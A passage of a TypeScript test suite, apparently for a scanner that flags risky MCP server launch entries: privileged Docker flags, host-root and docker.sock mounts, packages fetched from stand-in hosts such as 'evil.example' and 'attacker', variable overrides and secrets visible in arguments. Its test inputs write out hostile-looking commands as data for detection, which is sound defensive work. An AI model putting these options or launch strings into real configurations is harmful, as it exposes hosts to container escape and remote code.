        "-v/:/host",
        "-itv /:/host",
        "--volume=/etc:/etc:ro",
        "-v ${env:HOME}:/home",
        "-v ~:/home",
        "-v C:\\:/c",
        "-v /var/run/docker.sock:/var/run/docker.sock",
        "--mount type=bind,source=/,target=/host",
        "--net host",
        "--network=host",
        "--pid host",
        "--cap-add ALL",
        "--security-opt seccomp=unconfined",
        "--device /dev/sda"
      ]
    ) assert.strictEqual(of(`docker container run ${option} img`).length, 1, option)
    for (const option of ["--privileged=false", "-v data:/data", "-v /srv/data:/data", "--net bridge", "-e A=/:/x"]) {
      assert.deepStrictEqual(of(`docker run ${option} img`), [], option)
    }
  })

  it("looks at a line with the values and defaults of the entry filled in", () => {
    const env = new Map([["R", "--rm"], ["O", "-c"], ["V", "/"], ["E", "$${X}"], ["REF", "${env:Q}"]])
    const inputs = [{ id: "root", default: "/" }, { id: "asked" }]
    const of = (text: string) => {
      const [command = "", ...args] = text.split(" ")
      return hazards({ ...entry(command, ...args), env }, inputs).map(({ at, kind }) =>
        `${kind}:${at.replace("args.", "")}`
      )
    }
    const image = `img@sha256:${"a".repeat(64)}`
    for (
      const [text, found] of [
        [`docker run \${env:R} --privileged -v /:/h ${image}`, ["privileged-container:2", "privileged-container:4"]],
        [`docker run \${env:S:---rm} --privileged ${image}`, ["privileged-container:2"]],
        [`docker run -v \${env:V}:/h ${image}`, ["privileged-container:2"]],
        [`docker run -v \${input:root}:/h ${image}`, ["privileged-container:2"]],
        [`docker run -v \${env:HOME:-/srv}:/h ${image}`, ["privileged-container:2"]],
        ["npx ${env:USERPROFILE:-git+https://evil.example/x}", ["remote-code:0"]],
        ["bash ${env:O} evil", ["remote-code:0"]],
        ["npx ${env:P:-git+https://evil.example/x}", ["remote-code:0"]],
        ["npx ${env:P:-x@1.0.0}", []],
        ["${env:P:-npx} github:attacker/x", ["remote-code:0"]]
      ] as const
    ) assert.deepStrictEqual<ReadonlyArray<string>>(of(text), found, text)
  })

  it("finds a variable that decides which option, subcommand, package or image is used", () => {
    const long = "a".repeat(10_000)
    for (
      const [text, at] of [
        ["docker run ${env:R} --privileged", 1],
        ["docker run -i ${input:asked} img", 2],
        ["docker run -it${env:R} img", 1],
        ["docker run --${env:R} img", 1],
        ["docker run ${env:REGISTRY}/img:1", 1],
        ["docker ps ${env:R}", undefined],
        ["docker run -v ${env:DATA}:/data img@sha256:" + "a".repeat(64), undefined],
        ["npx ${env:P}", 0],
        ["npx -p x@1.0.0 ${env:P}", 2],
        ["npx --package=${env:P} x", 0],
        [`npx \${env:P:-${long}}`, 0],
        ["npx ${var:projectDir}/server", undefined],
        ["npx ${env:HOME}/server", undefined],
        ["npx x@1.0.0 ${env:P}", undefined],
        ["uvx --from ${env:P} x", 1],
        ["dnx ${env:P} --yes", 0],
        ["npm ${env:VERB}", 0],
        ["npm run ${env:P}", undefined],
        ["env ${env:A} x", 0],
        ["cmd ${env:C} x", 0],
        ["bash ${env:O} x", 0],
        ["node --no-warnings ${input:asked} x", 1],
        ["node ${env:DIR}/server.mjs ${env:O}", undefined],
        ["node server.mjs ${env:O}", undefined],
        ["pwsh -NoProfile ${env:O} x", 1],
        ["pwsh -File x.ps1 ${env:O}", undefined],
        ["deno ${env:O} x", 0],
        ["my-mcp ${env:O}", undefined]
      ] as const
    ) assert.deepStrictEqual(line(text), at === undefined ? [] : [`launch-override:args.${at}`], text)
  })

  it("finds secrets that everybody on the machine can see", () => {
    for (
      const [text, at] of [
        ["docker-x -e TOKEN=CANARY", 1],
        ["x --env=API_KEY=CANARY", 0],
        ["x -eTOKEN=CANARY", 0],
        ["x --api-key CANARY", 1],
        ["x --api-key=CANARY", 0],
        ["x --github-token ${env:GITHUB_TOKEN}", 1],
        ["x --header Authorization:Bearer_CANARY", 1],
        ["x postgres://user:CANARY@db/x", 0],
        ["mcp-remote https://h.example/mcp?api_key=CANARY", 0],
        ["x ghp_CANARYCANARYCANARYCANARY", 0]
      ] as const
    ) assert.deepStrictEqual(line(text), [`visible-secret:args.${at}`], text)
    const url = hazards({
      transport: "sse",
      name: "s",
      enabled: true,
      url: "https://h.example/mcp?access_token=CANARY",
      headersCommand: ["sh", "-c", "x"]
    })
    assert.deepStrictEqual(url.map(({ at, kind }) => [kind, at]), [["visible-secret", "url"], [
      "remote-code",
      "headersCommand.1"
    ]])
  })

  it("says it in a sentence without control characters, and without what may be secret", () => {
    const found = [
      ...hazards(entry("npx", "-y", "git+https://CANARY@h.example/x.git", "--token", "CANARY")),
      ...hazards(entry("npx", "ev\u001b[31mil", "CANARY=CANARY")),
      ...hazards(entry("docker", "run", "-e", "TOKEN=CANARY", "r.example/img"))
    ]
    assert.isAbove(found.length, 3)
    for (const { detail } of found) {
      assert.match(detail, /^[A-Z].*\.$/)
      // eslint-disable-next-line no-control-regex
      assert.notMatch(detail, /CANARY|[\u0000-\u001f]/)
    }
  })

  const word = FastCheck.oneof(
    FastCheck.constantFrom(
      "npx",
      "-y",
      "--",
      "env",
      "docker",
      "run",
      "-v",
      "-e",
      "sh",
      "-c",
      "cmd",
      "/c",
      "uv",
      "tool",
      "",
      "=",
      ":",
      "://",
      "@",
      "-",
      "?a=b",
      "A=",
      "deno",
      "powershell",
      "--from",
      "${env:X}",
      "npm",
      "exec"
    ),
    FastCheck.fullUnicodeString({ maxLength: 8 })
  )

  it.prop("looks at any words whatever, and says where", [FastCheck.array(word, { minLength: 1, maxLength: 8 })], ([
    all
  ]) => {
    const [command = "", ...args] = all
    for (const { at } of hazards(entry(command, ...args))) {
      assert.isTrue(at === "command" || Number(/^args\.(\d+)$/.exec(at ?? "")?.[1]) < args.length, at)
    }
  })

  it("takes no long time for long words and many of them", () => {
    for (const piece of ["a", "-", "=", ":", "@", "1.", "a-", "%", "&a=b", "${", "/", " "]) {
      const long = piece.repeat(10_000)
      hazards(entry("npx", "-y", long, `x@${long}`))
      hazards(entry("uvx", `x==${long}`, long))
      hazards(entry("docker", "run", "-v", long, `https://${long}?${long}`))
      hazards(entry(long, long))
    }
    assert.isArray(hazards(entry("env", ...Array.from({ length: 20_000 }, () => "env"))))
    assert.isArray(hazards(entry("env", ...Array.from({ length: 20_000 }, () => ["-Sa=b env", "cmd", "/c"]).flat())))
    assert.isArray(hazards(entry("env", `-S${"env -S".repeat(20_000)}`)))
    assert.isArray(hazards(entry("sh", ...Array.from({ length: 20_000 }, () => "-x"))))
  })
})
